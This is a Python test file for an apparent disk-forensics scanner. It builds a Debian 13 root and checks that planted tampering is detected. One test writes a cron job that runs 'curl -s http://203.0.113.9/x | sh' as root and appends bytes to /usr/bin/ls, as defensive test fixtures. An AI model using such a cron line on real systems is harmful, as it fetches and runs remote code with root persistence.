"""A root of Debian 13, as a mounted disk would be: read without the machine that it belongs to."""

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from tests.lab.build import CACHE, is_required, locked, missing
from tests.lab.documents import Document, at_least, entities, listed

pytestmark = pytest.mark.lab
SOURCES = Path(os.environ.get("DEBIAN_SOURCES", "/etc/apt/sources.list.d/debian.sources"))


@pytest.fixture(scope="module")
def trixie() -> Path:
    """Return a minimal Debian 13, made from the mirror that this machine uses itself."""
    if reason := missing():
        (pytest.fail if is_required() else pytest.skip)(reason)
    place = CACHE / "trixie"
    CACHE.mkdir(parents=True, exist_ok=True)
    with locked(CACHE / "trixie.lock"):
        if not place.exists():
            unfinished = CACHE / "trixie.building"
            shutil.rmtree(unfinished, ignore_errors=True)
            sources = CACHE / "trixie.sources"
            sources.write_text(SOURCES.read_text().replace("bookworm", "trixie"))
            argv = ["mmdebstrap", "--quiet", "--variant=minbase", "trixie"]
            made = subprocess.run([*argv, unfinished, sources], capture_output=True, check=False)
            if made.returncode:
                said = made.stderr.decode(errors="replace").strip().split("\n")[-1]
                pytest.skip(f"this machine's mirror gives no Debian 13: {said}")
            unfinished.rename(place)
    return place


def scanned(root: Path, case: Path) -> Document:
    """Scan a root with the command that a person would type."""
    argv = [sys.executable, "-m", "rootout", "scan", "--json", "--root", root, "--case", case]
    done = subprocess.run(argv, capture_output=True, check=False)
    assert done.returncode in (0, 1, 3), done.stderr.decode()
    document: Document = json.loads(done.stdout)
    return document


def test_a_fresh_root_has_nothing_at_medium_or_above(trixie: Path, tmp_path: Path) -> None:
    document = scanned(trixie, tmp_path / "case")
    assert at_least("medium", listed(document, "findings")) == []
    assert listed(document, "incidents") == []


def test_what_was_planted_on_the_disk_is_found(trixie: Path, tmp_path: Path) -> None:
    root = tmp_path / "root"
    subprocess.run(["cp", "-a", "--reflink=auto", trixie, root], check=True)
    (root / "etc/cron.d").mkdir(exist_ok=True)
    (root / "etc/cron.d/x").write_text("1 1 * * * root curl -s http://203.0.113.9/x | sh\n")
    with (root / "usr/bin/ls").open("ab") as file:
        file.write(b"changed")
    found = at_least("high", listed(scanned(root, tmp_path / "case"), "findings"))
    assert {("job", "/etc/cron.d/x:1"), ("file", "/usr/bin/ls")} <= entities(*found)
